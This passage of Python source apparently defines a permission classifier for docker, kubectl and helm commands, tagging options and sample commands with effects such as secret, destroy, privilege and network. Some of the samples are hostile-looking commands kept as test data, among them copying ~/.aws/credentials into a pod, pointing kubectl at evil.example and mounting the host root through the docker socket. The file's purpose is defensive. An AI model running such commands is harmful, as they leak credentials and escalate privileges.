        "info": _plain("info", "info", "docker info"),
        "history": _plain("history", "history", "docker history alpine"),
        "events": _plain("events", "events", "docker events --since 10m"),
        "stats": _plain("stats", "stats", "docker stats --no-stream"),
        "start": _plain("start", "start", "docker start web"),
        "restart": _plain("restart", "restart", "docker restart web"),
        "attach": _plain("attach", "attach", "docker attach web"),
        "commit": _plain("commit", "commit", "docker commit web app:snap"),
        "update": _plain("update", "update", "docker update --memory 1g web"),
        "top port pause unpause wait rename diff tag": _docker("top", {}, examples={"docker port web": ""}),
        "container": _CONTAINER,
        "image": _IMAGE,
        "network": _NETWORK,
        "volume": _VOLUME,
        "system": _SYSTEM,
        "context": _CONTEXT,
        "builder": _BUILDER,
        "manifest": _MANIFEST,
        "plugin": _PLUGIN,
        "buildx": _BUILDX,
        "compose": _COMPOSE,
    },
    examples={
        "docker --context prod ps": "",
        "docker -H unix:///var/run/docker.sock run -v /:/h alpine": "unknown tree-read:/ tree-write:/ privilege:/",
        "docker --config /tmp/dc pull x": "load:/tmp/dc",
    },
)

# --- kubectl ---------------------------------------------------------------------------------

_KUBECTL_GLOBAL = {
    "--cache-dir --certificate-authority --client-certificate --client-key --cluster --context": "val",
    "-n --namespace --password --request-timeout --tls-server-name": "val",
    # A kubeconfig's `exec:` credential plugin runs a command at every call; another API server gets the
    # current context's credentials sent to it.
    "--kubeconfig": "val:load",
    "-s --server": "val:network",
    "--token --user --username -v --v --vmodule --log-flush-frequency --profile": "val",
    "--profile-output": "val:write",
    "--as --as-group --as-uid": "val:privilege",
    "--disable-compression --insecure-skip-tls-verify --match-server-version --warnings-as-errors": "flag",
    "--help -h": "flag",
}

_SECRET_RESOURCE = re.compile(r"^(secrets?)(\.[\w.]+)?(/.*)?$", re.IGNORECASE)
_VALUE_OUTPUT = re.compile(
    r"^(yaml|json|jsonpath|jsonpath-file|jsonpath-as-json|go-template|go-template-file|template|templatefile|custom-columns|custom-columns-file)\b",
    re.IGNORECASE,
)


def _output_formats(argv: list[str]) -> list[str]:
    formats: list[str] = []
    for i, word in enumerate(argv):
        if word in ("-o", "--output") and i + 1 < len(argv):
            formats.append(argv[i + 1])
        elif word.startswith("--output="):
            formats.append(word[len("--output=") :])
        elif word.startswith("-o") and len(word) > 2 and not word.startswith("--"):
            formats.append(word[2:].lstrip("="))
    return formats


def _secret_values(walk: Walk, argv: list[str]) -> None:
    """`kubectl get secret x -o yaml` prints the secret's values; a listing or `-o name` does not."""
    resources = [part for word in argv[1:] if not word.startswith("-") for part in word.split(",")]
    secret = any(_SECRET_RESOURCE.match(r) for r in resources)
    raw = [argv[i + 1] for i, w in enumerate(argv[:-1]) if w == "--raw"] + [
        w[len("--raw=") :] for w in argv if w.startswith("--raw=")
    ]
    if any("secret" in r.lower() for r in raw):
        walk.effects.append(Effect("secret", "", "get --raw of secrets", "deny"))
    if secret and any(_VALUE_OUTPUT.match(f) for f in _output_formats(argv)):
        walk.effects.append(Effect("secret", "", "secrets printed with -o", "deny"))


def _kubectl_cp(walk: Walk, argv: list[str]) -> None:
    _host_side(walk, argv, "pod")


def _kube(
    name: str, key: str | None, overrides: dict[str, str] | None = None, operands: str = "text*", **kwargs: object
) -> Spec:
    options = dict(_KUBE_GENERATED.get(key, {})) if key else {}
    return Spec(
        name,
        version=KUBECTL_VERSION,
        options=_words(options, overrides or {}),
        operands=operands,
        long_prefix=False,
        **kwargs,  # type: ignore[arg-type]
    )


_KUBE_GENERATED: dict[str, dict[str, str]] = {
    "get": {
        "-A --all-namespaces --allow-missing-template-keys --ignore-not-found --no-headers": "flag",
        "--output-watch-events -R --recursive --server-print --show-kind --show-labels": "flag",
        "--show-managed-fields -w --watch --watch-only": "flag",
        "--chunk-size --field-selector -L --label-columns -o --output --raw -l --selector": "val",
        "--sort-by --subresource --template": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "describe": {
        "-A --all-namespaces -R --recursive --show-events": "flag",
        "--chunk-size -l --selector": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "logs": {
        "--all-containers --all-pods -f --follow --ignore-errors --insecure-skip-tls-verify-backend": "flag",
        "--prefix -p --previous --timestamps": "flag",
        "-c --container --limit-bytes --max-log-requests --pod-running-timeout -l": "val",
        "--selector --since --since-time --tail": "val",
    },
    "apply": {
        "--all --allow-missing-template-keys --force-conflicts --openapi-patch --overwrite": "flag",
        "-R --recursive --server-side --show-managed-fields --wait": "flag",
        "--cascade --dry-run --field-manager --grace-period -o --output --prune-allowlist": "val",
        "-l --selector --subresource --template --timeout --validate": "val",
        "-f --filename": "val:read",
        "--force": "flag:destroy@force_ask",
        "-k --kustomize": "val:tree-read",
        "--prune": "flag:destroy@force_ask",
    },
    "create": {
        "--allow-missing-template-keys --edit -R --recursive --save-config --show-managed-fields": "flag",
        "--windows-line-endings": "flag",
        "--dry-run --field-manager -o --output --raw -l --selector --template --validate": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "delete": {
        "--all -A --all-namespaces --force --ignore-not-found -i --interactive --now": "flag",
        "-R --recursive --wait": "flag",
        "--cascade --dry-run --field-selector --grace-period -o --output --raw -l": "val",
        "--selector --timeout": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "patch": {
        "--allow-missing-template-keys --local -R --recursive --show-managed-fields": "flag",
        "--dry-run --field-manager -o --output -p --patch --subresource --template": "val",
        "--type": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
        "--patch-file": "val:read",
    },
    "edit": {
        "--allow-missing-template-keys --output-patch -R --recursive --save-config": "flag",
        "--show-managed-fields --windows-line-endings": "flag",
        "--field-manager -o --output --subresource --template --validate": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "replace": {
        "--allow-missing-template-keys --force -R --recursive --save-config --show-managed-fields": "flag",
        "--wait": "flag",
        "--cascade --dry-run --field-manager --grace-period -o --output --raw --subresource": "val",
        "--template --timeout --validate": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "scale": {
        "--all --allow-missing-template-keys -R --recursive --show-managed-fields": "flag",
        "--current-replicas --dry-run -o --output --replicas --resource-version -l": "val",
        "--selector --template --timeout": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "rollout status": {
        "-R --recursive -w --watch": "flag",
        "--revision -l --selector --timeout": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "rollout history": {
        "--allow-missing-template-keys -R --recursive --show-managed-fields": "flag",
        "-o --output --revision -l --selector --template": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "rollout restart": {
        "--allow-missing-template-keys -R --recursive --show-managed-fields": "flag",
        "--field-manager -o --output -l --selector --template": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "rollout undo": {
        "--allow-missing-template-keys -R --recursive --show-managed-fields": "flag",
        "--dry-run -o --output -l --selector --template --to-revision": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "set image": {
        "--all --allow-missing-template-keys --local -R --recursive --show-managed-fields": "flag",
        "--dry-run --field-manager -o --output -l --selector --template": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "set env": {
        "--all --allow-missing-template-keys --list --local --overwrite -R --recursive": "flag",
        "--resolve --show-managed-fields": "flag",
        "-c --containers --dry-run -e --env --field-manager --keys -o --output --prefix": "val",
        "-l --selector --template": "val",
        "-f --filename": "val:read",
        "--from": "val",
        "-k --kustomize": "val:tree-read",
    },
    "set resources": {
        "--all --allow-missing-template-keys --local -R --recursive --show-managed-fields": "flag",
        "-c --containers --dry-run --field-manager --limits -o --output --requests": "val",
        "-l --selector --template": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "exec": {
        "-q --quiet -i --stdin -t --tty": "flag",
        "-c --container --pod-running-timeout": "val",
        "-f --filename": "val:read",
    },
    "run": {
        "--allow-missing-template-keys --attach --command --expose --force --leave-stdin-open": "flag",
        "-q --quiet -R --recursive --rm --save-config --show-managed-fields -i --stdin": "flag",
        "-t --tty --wait": "flag",
        "--annotations --cascade --dry-run --env --field-manager --grace-period --image": "val",
        "--image-pull-policy -l --labels -o --output --override-type --overrides": "val",
        "--pod-running-timeout --port --restart --template --timeout": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
        "--privileged": "flag:privilege",
    },
    "debug": {
        "--arguments-only --attach --keep-annotations --keep-init-containers --keep-labels": "flag",
        "--keep-liveness --keep-readiness --keep-startup -q --quiet --replace --same-node": "flag",
        "--share-processes -i --stdin -t --tty": "flag",
        "-c --container --copy-to --custom --env -f --filename --image --image-pull-policy": "val",
        "--set-image --target": "val",
        "--profile": "val:privilege?sysadmin|netadmin",
    },
    "cp": {
        "--no-preserve": "flag",
        "-c --container --retries": "val",
    },
    "port-forward": {
        "--address --pod-running-timeout": "val",
    },
    "proxy": {
        "--append-server-path --disable-filter": "flag",
        "--accept-hosts --accept-paths --address --api-prefix --keepalive -p --port": "val",
        "--reject-methods --reject-paths -u --unix-socket -P --www-prefix": "val",
        "-w --www": "val:tree-read",
    },
    "config view": {
        "--allow-missing-template-keys --merge --minify --show-managed-fields": "flag",
        "-o --output --template": "val",
        # --flatten embeds every certificate, key and token and, like --raw, skips the redaction (view.go)
        "--raw --flatten": "flag:secret@deny",
    },
    "config get-contexts": {
        "--no-headers": "flag",
        "-o --output": "val",
    },
    "config set-context": {
        "--current": "flag",
        "--cluster --namespace --user": "val",
    },
    "config set-cluster": {
        "--embed-certs --insecure-skip-tls-verify": "flag",
        "--proxy-url --server --tls-server-name": "val",
        "--certificate-authority": "val:read",
    },
    "config set-credentials": {
        "--embed-certs --exec-provide-cluster-info": "flag",
        "--auth-provider --auth-provider-arg --exec-api-version --exec-arg --exec-env": "val",
        "--exec-interactive-mode --password --token --username": "val",
        "--client-certificate": "val:read",
        "--client-key": "val:read",
        "--exec-command": "val:exec",
    },
    "config set": {
        "--set-raw-bytes": "flag",
    },
    "auth can-i": {
        "-A --all-namespaces --list --no-headers -q --quiet": "flag",
        "--subresource": "val",
    },
    "auth whoami": {
        "--allow-missing-template-keys --show-managed-fields": "flag",
        "-o --output --template": "val",
    },
    "auth reconcile": {
        "--allow-missing-template-keys -R --recursive --remove-extra-permissions": "flag",
        "--remove-extra-subjects --show-managed-fields": "flag",
        "--dry-run -o --output --template": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "label": {
        "--all -A --all-namespaces --allow-missing-template-keys --list --local --overwrite": "flag",
        "-R --recursive --show-managed-fields": "flag",
        "--dry-run --field-manager --field-selector -o --output --resource-version": "val",
        "-l --selector --template": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "annotate": {
        "--all -A --all-namespaces --allow-missing-template-keys --list --local --overwrite": "flag",
        "-R --recursive --show-managed-fields": "flag",
        "--dry-run --field-manager --field-selector -o --output --resource-version": "val",
        "-l --selector --template": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "top pod": {
        "-A --all-namespaces --containers --no-headers --sum --use-protocol-buffers": "flag",
        "--field-selector -l --selector --sort-by": "val",
    },
    "top node": {
        "--no-headers --show-capacity --use-protocol-buffers": "flag",
        "-l --selector --sort-by": "val",
    },
    "explain": {
        "--recursive": "flag",
        "--api-version -o --output": "val",
    },
    "api-resources": {
        "--cached --namespaced --no-headers": "flag",
        "--api-group --categories -o --output --sort-by --verbs": "val",
    },
    "version": {
        "--client": "flag",
        "-o --output": "val",
    },
    "wait": {
        "--all -A --all-namespaces --allow-missing-template-keys --local -R --recursive": "flag",
        "--show-managed-fields": "flag",
        "--field-selector --for -o --output -l --selector --template --timeout": "val",
        "-f --filename": "val:read",
    },
    "diff": {
        "--force-conflicts --prune -R --recursive --server-side --show-managed-fields": "flag",
        "--concurrency --field-manager --prune-allowlist -l --selector": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "kustomize": {
        "--as-current-user --enable-helm --helm-debug --network": "flag",
        "--helm-api-versions --helm-command --helm-kube-version --load-restrictor": "val",
        "--network-name": "val",
        "--enable-alpha-plugins": "flag:unknown",
        "-e --env": "val",
        "--mount": "val:unknown",
        "-o --output": "val:write",
        "--enable-exec": "flag:unknown",
    },
    "expose": {
        "--allow-missing-template-keys -R --recursive --save-config --show-managed-fields": "flag",
        "--cluster-ip --dry-run --external-ip --field-manager -l --labels --load-balancer-ip": "val",
        "--name -o --output --override-type --overrides --port --protocol --selector": "val",
        "--session-affinity --target-port --template --type": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "autoscale": {
        "--allow-missing-template-keys -R --recursive --save-config --show-managed-fields": "flag",
        "--cpu-percent --dry-run --field-manager --max --min --name -o --output --template": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "drain": {
        "--delete-emptydir-data --disable-eviction --force --ignore-daemonsets": "flag",
        "--chunk-size --dry-run --grace-period --pod-selector -l --selector --skip-wait-for-delete-timeout": "val",
        "--timeout": "val",
    },
    "cordon": {
        "--dry-run -l --selector": "val",
    },
    "taint": {
        "--all --allow-missing-template-keys --overwrite --show-managed-fields": "flag",
        "--dry-run --field-manager -o --output -l --selector --template --validate": "val",
    },
    "certificate approve": {
        "--allow-missing-template-keys --force -R --recursive --show-managed-fields": "flag",
        "-o --output --template": "val",
        "-f --filename": "val:read",
        "-k --kustomize": "val:tree-read",
    },
    "attach": {
        "-q --quiet -i --stdin -t --tty": "flag",
        "-c --container --pod-running-timeout": "val",
    },
    "events": {
        "-A --all-namespaces --allow-missing-template-keys --no-headers --show-managed-fields": "flag",
        "-w --watch": "flag",
        "--chunk-size --for -o --output --template --types": "val",
    },
    "create secret generic": {
        "--allow-missing-template-keys --append-hash --save-config --show-managed-fields": "flag",
        "--dry-run --field-manager --from-literal -o --output --template --type --validate": "val",
        "--from-env-file": "val:read",
        "--from-file": "val:read",
    },
    "create secret tls": {
        "--allow-missing-template-keys --append-hash --save-config --show-managed-fields": "flag",
        "--dry-run --field-manager -o --output --template --validate": "val",
        "--cert": "val:read",
        "--key": "val:read",
    },
    "create secret docker-registry": {
        "--allow-missing-template-keys --append-hash --save-config --show-managed-fields": "flag",
        "--docker-email --docker-password --docker-server --docker-username --dry-run": "val",
        "--field-manager -o --output --template --validate": "val",
        "--from-file": "val:read",
    },
    "create configmap": {
        "--allow-missing-template-keys --append-hash --save-config --show-managed-fields": "flag",
        "--dry-run --field-manager --from-literal -o --output --template --validate": "val",
        "--from-env-file": "val:read",
        "--from-file": "val:read",
    },
    "create token": {
        "--allow-missing-template-keys --show-managed-fields": "flag",
        "--audience --bound-object-kind --bound-object-name --bound-object-uid --duration": "val",
        "-o --output --template": "val",
    },
    "create other": {
        "--allow-missing-template-keys --save-config --show-managed-fields": "flag",
        "--dry-run --field-manager --image -o --output --port -r --replicas --template": "val",
        "--validate": "val",
    },
}

_CHANGE = "destroy"
_DISPLACE = "destroy@force_ask"
_CREATE_KINDS = (
    "deployment job cronjob namespace ns serviceaccount sa service svc role rolebinding clusterrole"
    " clusterrolebinding quota priorityclass poddisruptionbudget pdb ingress"
)
KUBECTL = Spec(
    "kubectl",
    version=KUBECTL_VERSION,
    options=_words(_KUBECTL_GLOBAL),
    long_prefix=False,
    globals_anywhere=True,
    subcommands={
        "get": _kube(
            "get",
            "get",
            judge=_secret_values,
            examples={
                "kubectl get pods": "",
                "kubectl get pods -A -o wide": "",
                "kubectl get deploy api -o yaml": "",
                "kubectl get secrets": "",
                "kubectl get secret x -o jsonpath={.data.token}": "secret",
                "kubectl get secret/x -oyaml": "secret",
                "kubectl get secrets -n prod -o json": "secret",
                "kubectl get --raw /api/v1/namespaces/d/secrets/x": "secret",
            },
        ),
        "describe": _kube("describe", "describe", examples={"kubectl describe pod web-1": ""}),
        "logs": _kube("logs", "logs", examples={"kubectl logs -f deploy/api --tail=100": ""}),
        "top": Spec(
            "top",
            version=KUBECTL_VERSION,
            long_prefix=False,
            subcommands={
                "pod pods po": _kube("pod", "top pod"),
                "node nodes no": _kube("node", "top node"),
            },
            examples={"kubectl top pods": ""},
        ),
        "explain": _kube("explain", "explain", examples={"kubectl explain pod.spec": ""}),
        "api-resources": _kube("api-resources", "api-resources", examples={"kubectl api-resources": ""}),
        "api-versions cluster-info completion": _kube("api-versions", None, examples={"kubectl cluster-info": ""}),
        "version": _kube("version", "version", examples={"kubectl version --client": ""}),
        "events": _kube("events", "events", examples={"kubectl events -n prod": ""}),
        "wait": _kube("wait", "wait", examples={"kubectl wait --for=condition=ready pod/x": ""}),
        "diff": _kube("diff", "diff", examples={"kubectl diff -f k8s/": "read:k8s/"}),
        "kustomize": _kube(
            "kustomize",
            "kustomize",
            operands="tree-read?",
            examples={"kubectl kustomize overlays/prod": "tree-read:overlays/prod"},
        ),
        "auth": Spec(
            "auth",
            version=KUBECTL_VERSION,
            long_prefix=False,
            subcommands={
                "can-i": _kube("can-i", "auth can-i", examples={"kubectl auth can-i create pods": ""}),
                "whoami": _kube("whoami", "auth whoami"),
                "reconcile": _kube("reconcile", "auth reconcile", effects=_CHANGE),
            },
        ),
        "config": Spec(
            "config",
            version=KUBECTL_VERSION,
            options={"--kubeconfig": "val"},
            long_prefix=False,
            subcommands={
                "view": _kube(
                    "view", "config view", examples={"kubectl config view": "", "kubectl config view --raw": "secret"}
                ),
                "get-contexts": _kube(
                    "get-contexts", "config get-contexts", examples={"kubectl config get-contexts": ""}
                ),
                "current-context get-clusters get-users": _kube(
                    "current-context", None, examples={"kubectl config current-context": ""}
                ),
                "use-context use delete-context rename-context delete-cluster delete-user unset": _kube(
                    "use-context", None, effects="config", examples={"kubectl config use-context prod": "config"}
                ),
                "set-context": _kube("set-context", "config set-context", effects="config"),
                "set-cluster": _kube("set-cluster", "config set-cluster", effects="config"),
                "set-credentials": _kube(
                    "set-credentials",
                    "config set-credentials",
                    effects="config",
                    examples={
                        "kubectl config set-credentials u --exec-command=/tmp/x": "config exec:/tmp/x",
                    },
                ),
                "set": _kube("set", "config set", effects="config"),
            },
        ),
        "apply": Spec(
            "apply",
            version=KUBECTL_VERSION,
            options=_words(_KUBE_GENERATED["apply"]),
            long_prefix=False,
            effects=_CHANGE,
            subcommands={
                "edit-last-applied set-last-applied view-last-applied": _kube(
                    "edit-last-applied", "apply", effects=_CHANGE
                ),
            },
            examples={
                "kubectl apply -f k8s/": "destroy read:k8s/",
                "kubectl apply -k overlays/dev": "destroy tree-read:overlays/dev",
            },
        ),
        "create": Spec(
            "create",
            version=KUBECTL_VERSION,
            options=_words(_KUBE_GENERATED["create"]),
            long_prefix=False,
            effects=_CHANGE,
            subcommands={
                "secret": Spec(
                    "secret",
                    version=KUBECTL_VERSION,
                    long_prefix=False,
                    subcommands={
                        "generic": _kube(
                            "generic",
                            "create secret generic",
                            effects=_CHANGE,
                            examples={
                                "kubectl create secret generic k --from-file=~/.ssh/id_rsa": "destroy read:~/.ssh/id_rsa",
                            },
                        ),
                        "tls": _kube("tls", "create secret tls", effects=_CHANGE),
                        "docker-registry": _kube("docker-registry", "create secret docker-registry", effects=_CHANGE),
                    },
                ),
                "configmap cm": _kube("configmap", "create configmap", effects=_CHANGE),
                "token": _kube(
                    "token", "create token", effects="secret", examples={"kubectl create token default": "secret"}
                ),
                _CREATE_KINDS: _kube(
                    "deployment",
                    "create other",
                    effects=_CHANGE,
                    examples={"kubectl create deployment web --image=nginx": "destroy"},
                ),
            },
            examples={"kubectl create -f job.yaml": "destroy read:job.yaml"},
        ),
        "patch": _kube("patch", "patch", effects=_CHANGE, examples={"kubectl patch deploy api -p '{}'": "destroy"}),
        "edit": _kube("edit", "edit", effects=_CHANGE),
        "label": _kube("label", "label", effects=_CHANGE),
        "annotate": _kube("annotate", "annotate", effects=_CHANGE),
        "expose": _kube("expose", "expose", effects=_CHANGE),
        "autoscale": _kube("autoscale", "autoscale", effects=_CHANGE),
        "set": Spec(
            "set",
            version=KUBECTL_VERSION,
            long_prefix=False,
            subcommands={
                "image": _kube("image", "set image", effects=_CHANGE),
                "env": _kube("env", "set env", effects=_CHANGE),
                "resources": _kube("resources", "set resources", effects=_CHANGE),
            },
        ),
        "rollout": Spec(
            "rollout",
            version=KUBECTL_VERSION,
            long_prefix=False,
            subcommands={
                "status": _kube("status", "rollout status", examples={"kubectl rollout status deploy/api": ""}),
                "history": _kube("history", "rollout history"),
                "restart pause resume": _kube(
                    "restart",
                    "rollout restart",
                    effects=_CHANGE,
                    examples={"kubectl rollout restart deploy/api": "destroy"},
                ),
                "undo": _kube("undo", "rollout undo", effects=_CHANGE),
            },
        ),
        "taint": _kube("taint", "taint", effects=_CHANGE),
        "cordon uncordon": _kube("cordon", "cordon", effects=_CHANGE),
        "exec": _kube(
            "exec",
            "exec",
            operands="text argv",
            effects=_CHANGE,
            examples={"kubectl exec -it web-1 -- sh": "destroy runs:sh", "kubectl exec web-1 -- ls": "destroy runs:ls"},
        ),
        "run": _kube(
            "run", "run", effects=_CHANGE, examples={"kubectl run tmp --image=busybox --rm -it -- sh": "destroy"}
        ),
        "debug": _kube("debug", "debug", effects=_CHANGE),
        "attach": _kube("attach", "attach", effects=_CHANGE),
        "cp": _kube(
            "cp",
            "cp",
            operands="text text",
            effects=_CHANGE,
            judge=_kubectl_cp,
            examples={
                "kubectl cp web-1:/tmp/dump ./dump": "destroy write:./dump",
                "kubectl cp ~/.aws/credentials web-1:/tmp/c": "destroy upload:~/.aws/credentials",
            },
        ),
        "port-forward": _kube(
            "port-forward",
            "port-forward",
            effects=_CHANGE,
            examples={"kubectl port-forward svc/api 8080:80": "destroy"},
        ),
        "proxy": _kube("proxy", "proxy", effects=_CHANGE),
        "delete": _kube("delete", "delete", effects=_DISPLACE, examples={"kubectl delete pod web-1": "destroy"}),
        "replace": _kube("replace", "replace", effects=_DISPLACE),
        "scale": _kube("scale", "scale", effects=_DISPLACE),
        "drain": _kube("drain", "drain", effects=_DISPLACE),
        "certificate": Spec(
            "certificate",
            version=KUBECTL_VERSION,
            long_prefix=False,
            subcommands={
                "approve deny": _kube(
                    "approve",
                    "certificate approve",
                    effects="privilege",
                    examples={"kubectl certificate approve csr-1": "privilege"},
                ),
            },
        ),
        "plugin": Spec(
            "plugin",
            version=KUBECTL_VERSION,
            long_prefix=False,
            subcommands={
                "list": _kube("list", None, {"--name-only": "flag"}),
            },
        ),
    },
    examples={
        "kubectl --context prod delete deploy api": "destroy",
        "kubectl get pods --context prod -n web": "",
        "kubectl --as=system:admin get nodes": "privilege:system:admin",
        "kubectl --kubeconfig /tmp/k get pods": "load:/tmp/k",
        "kubectl --kubeconfig ./config get pods": "load:./config",
        "kubectl --kubeconfig=~/.kube/config get pods": "load:~/.kube/config",
        "kubectl --server https://evil.example get pods": "network:https://evil.example",
    },
)

# --- helm ------------------------------------------------------------------------------------

_HELM_GLOBAL = {
    "--burst-limit --kube-ca-file --kube-context --kube-tls-server-name --kube-token": "val",
    "-n --namespace --qps --registry-config --repository-cache --repository-config": "val",
    "--kubeconfig": "val:load",  # its exec credential plugin runs a command
    "--kube-apiserver": "val:network",
    "--kube-as-user --kube-as-group": "val:privilege",
    "--debug --kube-insecure-skip-tls-verify -h --help": "flag",
}
_HELM_CHART = {
    "-f --values": "val:read",
    "--set --set-string --set-json --set-literal --version --repo --username --password --description": "val",
    "--set-file": "val",
    "--post-renderer": "val:exec",
    "--post-renderer-args --timeout --devel-version --name-template --labels --kube-version --api-versions": "val",
    "--ca-file --cert-file --key-file --keyring": "val:read",
    "--atomic --create-namespace --dependency-update --devel --disable-openapi-validation --dry-run": "flag",
    "--force --generate-name -g --insecure-skip-tls-verify --no-hooks --pass-credentials --plain-http": "flag",
    "--render-subchart-notes --replace --skip-crds --skip-schema-validation --verify --wait --wait-for-jobs": "flag",
    "--enable-dns --hide-notes --hide-secret --take-ownership --reset-values --reuse-values": "flag",
    "--reset-then-reuse-values --cleanup-on-fail -i --install --history-max --max-history": "flag",
    "-o --output": "val",
}


def _helm(name: str, options: dict[str, str], operands: str = "text*", **kwargs: object) -> Spec:
    return Spec(name, version=HELM_VERSION, options=_words(options), operands=operands, long_prefix=False, **kwargs)  # type: ignore[arg-type]


HELM = Spec(
    "helm",
    version=HELM_VERSION,
    options=_words(_HELM_GLOBAL),
    long_prefix=False,
    globals_anywhere=True,
    subcommands={
        "install": _helm(
            "install",
            _HELM_CHART,
            effects=_CHANGE,
            examples={"helm install web ./chart -f values.yaml": "destroy read:values.yaml"},
        ),
        "upgrade": _helm(
            "upgrade",
            _HELM_CHART,
            effects=_CHANGE,
            examples={"helm upgrade --install web ./chart --post-renderer ./x": "destroy exec:./x"},
        ),
        "uninstall delete del un": _helm(
            "uninstall",
            {
                "--dry-run --keep-history --no-hooks --wait --ignore-not-found": "flag",
                "--cascade --description --timeout": "val",
            },
            effects=_DISPLACE,
            examples={"helm uninstall web": "destroy"},
        ),
        "rollback": _helm(
            "rollback",
            {
                "--cleanup-on-fail --dry-run --force --no-hooks --recreate-pods --wait --wait-for-jobs": "flag",
                "--history-max --timeout": "val",
            },
            effects=_DISPLACE,
        ),
        "template": _helm(
            "template",
            {
                **_HELM_CHART,
                "--output-dir": "val:tree-write",
                "--include-crds --is-upgrade --release-name --skip-tests --validate": "flag",
                "-s --show-only": "val",
            },
            examples={"helm template web ./chart": ""},
        ),
        "lint": _helm(
            "lint",
            {
                "-f --values": "val:read",
                "--set --set-string --set-file --set-json --set-literal --kube-version": "val",
                "--quiet --strict --with-subcharts": "flag",
            },
            operands="tree-read*",
            examples={"helm lint ./chart": "tree-read:./chart"},
        ),
        "list ls": _helm(
            "list",
            {
                "-a --all -A --all-namespaces -d --date --deployed --failed --no-headers --pending -r --reverse -q --short --superseded --uninstalled --uninstalling": "flag",
                "-f --filter -m --max --offset -o --output -l --selector --time-format": "val",
            },
            examples={"helm list -A": ""},
        ),
        "status": _helm(
            "status",
            {"--show-desc --show-resources": "flag", "-o --output --revision": "val"},
            examples={"helm status web": ""},
        ),
        "history hist": _helm("history", {"--max -o --output": "val"}, examples={"helm history web": ""}),
        "get": _helm(
            "get",
            {"-a --all": "flag", "--revision -o --output --template": "val"},
            # A release's rendered manifests hold its Secret objects (base64 is plain text), and the values it was
            # installed with hold the passwords handed to --set: printing them prints secrets.
            subcommands={
                "notes metadata": _helm("notes", {"-a --all": "flag", "--revision -o --output --template": "val"}),
                "all manifest": _helm(
                    "manifest", {"-a --all": "flag", "--revision -o --output --template": "val"}, effects="secret"
                ),
                "values hooks": _helm(
                    "values", {"-a --all": "flag", "--revision -o --output --template": "val"}, effects="secret@ask"
                ),
            },
            examples={
                "helm get values web": "secret",
                "helm get manifest web": "secret",
                "helm get all web --revision 3": "secret",
                "helm get notes web": "",
            },
        ),
        "show inspect": _helm(
            "show",
            {},
            subcommands={
                "all chart readme values crds": _helm(
                    "chart",
                    {
                        "--devel --insecure-skip-tls-verify --pass-credentials --plain-http --verify": "flag",
                        "--version --repo --username --password --jsonpath": "val",
                        "--ca-file --cert-file --key-file --keyring": "val:read",
                    },
                ),
            },
            examples={"helm show values bitnami/redis": ""},
        ),
        "search": _helm(
            "search",
            {},
            subcommands={
                "hub repo": _helm(
                    "repo",
                    {
                        "--devel -r --regexp -l --versions --fail-on-no-result --list-repo-url": "flag",
                        "--max-col-width -o --output --version --endpoint": "val",
                    },
                ),
            },
            examples={"helm search repo redis": ""},
        ),
        "repo": _helm(
            "repo",
            {},
            subcommands={
                "add": _helm(
                    "add",
                    {
                        "--allow-deprecated-repos --force-update --insecure-skip-tls-verify --no-update --pass-credentials --password-stdin": "flag",
                        "--username --password --timeout": "val",
                        "--ca-file --cert-file --key-file": "val:read",
                    },
                    effects="config",
                    examples={"helm repo add bitnami https://charts.bitnami.com/bitnami": "config"},
                ),
                "list ls": _helm("list", {"-o --output": "val"}),
                "update up": _helm("update", {"--fail-on-repo-update-fail": "flag", "--timeout": "val"}),
                "remove rm": _helm("remove", {}, effects="config"),
                "index": _helm(
                    "index", {"--merge": "val:read", "--url": "val", "--json": "flag"}, operands="tree-write"
                ),
            },
        ),
        "pull fetch": _helm(
            "pull",
            {
                "--devel --insecure-skip-tls-verify --pass-credentials --plain-http --prov --untar --verify": "flag",
                "--version --repo --username --password": "val",
                "-d --destination --untardir": "val:tree-write",
                "--ca-file --cert-file --key-file --keyring": "val:read",
            },
            examples={"helm pull bitnami/redis --untar": ""},
        ),
        "push": _helm(
            "push",
            {
                "--insecure-skip-tls-verify --plain-http": "flag",
                "--ca-file --cert-file --key-file": "val:read",
                "--username --password": "val",
            },
            operands="read text",
            effects="publish",
            examples={"helm push chart-1.0.tgz oci://r/c": "publish read:chart-1.0.tgz"},
        ),
        "package": _helm(
            "package",
            {
                "-u --dependency-update --sign": "flag",
                "--app-version --version --key --passphrase-file": "val",
                "-d --destination": "val:tree-write",
                "--keyring": "val:read",
            },
            operands="tree-read*",
            examples={"helm package ./chart": "tree-read:./chart"},
        ),
        "dependency dep dependencies": _helm(
            "dependency",
            {},
            subcommands={
                "build update list ls up": _helm(
                    "build",
                    {
                        "--skip-refresh --verify --insecure-skip-tls-verify --plain-http": "flag",
                        "--keyring": "val:read",
                        "--max-col-width": "val",
                    },
                    operands="tree-read?",
                ),
            },
            examples={"helm dependency update ./chart": "tree-read:./chart"},
        ),
        # A plugin is a program helm downloads and runs (install hooks run at install time).
        "plugin": _helm(
            "plugin",
            {},
            subcommands={
                "install add": _helm(
                    "install",
                    {"--version": "val"},
                    effects="load@force_ask",
